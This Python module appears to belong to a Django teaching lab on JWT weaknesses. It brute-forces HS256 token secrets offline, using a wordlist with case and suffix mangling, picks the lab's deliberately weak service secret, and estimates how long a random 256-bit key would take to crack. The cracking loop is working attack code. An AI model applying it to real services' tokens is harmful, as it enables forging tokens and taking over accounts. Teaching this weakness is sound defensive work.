"""Guess the secret of a token: every word of a list, as people change words, tried on the signature.

Nobody is asked for that: whoever has one token of HS256 can try at home, as fast as their machine is.
"""

from __future__ import annotations

import hmac
import math
import time
from dataclasses import dataclass

from django.utils.crypto import salted_hmac

from jwt_app.labs.weak import weak_secrets

CASES = (str, str.capitalize, str.upper)
ENDINGS = (
    "", "!", "1", "12", "123", "1234", "12345", "123456",
    *(str(year) for year in range(1970, 2031)),
    *(f"{number:02}" for number in range(500)),
    *(f"{number}!" for number in (1, 12, 123, *range(2000, 2031))),
    *(f"-{word}" for word in ("dev", "test", "prod", "key", "secret", "jwt")),
)  # fmt: skip
BATCH = 0.25  # seconds of guessing for one request
MANY = 2_000  # guesses between two looks at the clock
YEAR = 365.25 * 24 * 60 * 60  # seconds
STRONG_BITS = 256  # RFC 7518 §3.2: a key for HS256 has as many bits as the hash


def how_many() -> int:
    """Return how many guesses there are."""
    return len(weak_secrets()) * len(CASES) * len(ENDINGS)


def guess(number: int) -> str:
    """Return one of them; the plain words come first."""
    number, word = divmod(number, len(weak_secrets()))
    ending, case = divmod(number, len(CASES))
    return CASES[case](weak_secrets()[word]) + ENDINGS[ending]


def weak_secret() -> str:
    """Return the secret of the naive service: one of the guesses of the second half, another for each SECRET_KEY."""
    drawn = int(salted_hmac("jwt_app.attacks.weak_secret", "", algorithm="sha256").hexdigest(), 16)
    half = how_many() // 2
    # "XXXX410" would look like a secret that is masked: then it is the next word.
    drawn_ones = (guess(half + (drawn + step) % half) for step in range(half))
    return next(one for one in drawn_ones if set(one[:4].lower()) != {"x"})


@dataclass(frozen=True)
class Step:
    """What one request has tried: from the first guess on until `tried`. `found` is the secret, "" for not yet."""

    tried: int
    seconds: float
    found: str = ""

    @property
    def is_over(self) -> bool:
        """Whether nothing is left to try."""
        return bool(self.found) or self.tried >= how_many()


def go_on(signed: bytes, signature: bytes, tried: int) -> Step:
    """Guess for a while, from this number on."""
    started, total = time.perf_counter(), how_many()
    while tried < total and time.perf_counter() - started < BATCH:
        for number in range(tried, min(tried + MANY, total)):
            secret = guess(number)
            if hmac.digest(secret.encode(), signed, "sha256") == signature:
                return Step(number + 1, time.perf_counter() - started, secret)
        tried = min(tried + MANY, total)
    return Step(tried, time.perf_counter() - started)


def years_for_a_random_one(rate: float) -> int:
    """Return the power of ten of the years until a random secret is found, on average, at `rate` guesses a second."""
    return math.floor((STRONG_BITS - 1) * math.log10(2) - math.log10(max(rate, 1)) - math.log10(YEAR))
